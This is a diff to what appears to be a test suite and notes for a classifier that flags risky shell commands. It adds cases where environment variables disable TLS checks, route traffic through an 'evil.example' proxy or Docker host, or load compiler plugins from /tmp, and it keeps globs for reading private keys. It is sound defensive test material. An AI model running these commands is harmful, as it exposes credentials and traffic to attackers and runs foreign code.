@@ -75,6 +75,13 @@ mysql's ``INTO OUTFILE|DUMPFILE 'F'`` and ``--tee=F`` were unjudged; they are ju
 they land, as sqlite3's ``.output`` was. And a file name glob holding a key's word
 (``cat id_*``, ``*key*``, ``*secret*``) may name a private key: ``secret-read``.
 
+Variables (``command-variable``): TLS checks off or against another CA, and a proxy beyond
+loopback, change whom a command trusts and where its traffic goes, as git's
+``http.sslVerify`` and ``http.proxy`` (round 15) do; a remote ``DOCKER_HOST`` takes the
+commands and the registry logins a pull hands over; ``YARN_RC_FILENAME`` and ``CARGO_HOME``
+read settings from elsewhere; CMake's compiler launchers and compiler flags with a
+plugin, wrapper or ``-B DIR`` run another program.
+
 Deny rules: ``kubecolor`` runs kubectl with its words and ``helm3`` is helm under another
 name: ``kubectl delete *`` and ``helm uninstall *`` reach them.
 
@@ -309,6 +316,35 @@ CLIENT_READS = [
 ]
 KEY_GLOBS = ["cat id_*", "cat *key*", "cat *secret*", "cat deploy/*_key.pem"]
 NOT_KEY_GLOBS = ["cat *", "cat *.json", "cat monkey*", "cat *keys*.md", "wc -l src/*"]
+VARIABLES = [
+    "GIT_SSL_NO_VERIFY=1 git clone https://example.com/r",
+    "NODE_TLS_REJECT_UNAUTHORIZED=0 npm install",
+    "PYTHONHTTPSVERIFY=0 python3 fetch.py",
+    "SSL_CERT_FILE=/tmp/evil.pem curl https://example.com",
+    "env REQUESTS_CA_BUNDLE=/tmp/evil.pem pip install x",
+    "https_proxy=http://evil.example:8080 curl https://example.com",
+    "export HTTPS_PROXY=http://evil.example:8080; pip install x",
+    "ALL_PROXY=socks5://evil.example:1080 git fetch",
+    "DOCKER_HOST=tcp://evil.example:2375 docker pull private/img",
+    "DOCKER_HOST=ssh://root@prod docker ps",
+    "YARN_RC_FILENAME=/tmp/x.yml yarn install",
+    "CARGO_HOME=/tmp/x cargo build",
+    "CMAKE_C_COMPILER_LAUNCHER=/tmp/x cmake --build .",
+    "CGO_LDFLAGS='-Wl,--plugin=/tmp/x.so' go build",
+    "CFLAGS='-fplugin=/tmp/x.so' make",
+    "CFLAGS='-B/tmp/evil' make",
+]
+VARIABLES_PLAIN = [
+    "HTTPS_PROXY=http://127.0.0.1:8080 curl https://example.com",
+    "http_proxy=localhost:3128 curl http://example.com",
+    "NO_PROXY=localhost curl http://example.com",
+    "NODE_TLS_REJECT_UNAUTHORIZED=1 npm install",
+    "REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt python3 fetch.py",
+    "DOCKER_HOST=unix:///run/user/1000/docker.sock docker ps",
+    "DOCKER_HOST=tcp://127.0.0.1:2375 docker ps",
+    "CFLAGS='-O2 -g' make",
+    "LDFLAGS='-Wl,-Bsymbolic -fuse-ld=lld' make",
+]
 
 HOSTILE = [
     *((line, "exfiltration") for line in REMOTE_SENT_ELSEWHERE),
@@ -328,6 +364,7 @@ HOSTILE = [
     *((line, "secret-read") for line in VALUE_SHOWN),
     *CLIENT_WRITES,
     *((line, "secret-read") for line in KEY_GLOBS),
+    *((line, "command-variable") for line in VARIABLES),
 ]
 NOTHING = [*REMOTE_KEPT, *ALIASES_PLAIN, *ARCHIVES_READ, *INFRA_KEPT, *NOT_STORES, *STARTUP_READ]
 NOTHING += [
